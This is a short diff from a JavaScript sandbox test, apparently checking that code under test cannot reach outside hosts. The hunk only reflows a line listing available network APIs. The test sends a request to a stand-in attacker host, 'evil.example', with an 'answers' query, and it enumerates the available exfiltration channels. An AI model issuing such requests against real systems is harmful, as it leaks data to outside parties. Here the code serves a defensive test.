@@ -335,9 +335,7 @@ describe('should a text run all the same', () => {
       return {
         other: await outcome('https://evil.example/?q=answers'),
         own: (await fetch(location.href)).ok,
-        ways: ['XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'EventSource', 'WebTransport'].filter(
-          (way) => way in self,
-        ),
+        ways: ['XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'EventSource', 'WebTransport'].filter((way) => way in self),
       };
     });
     expect(tried).toEqual({
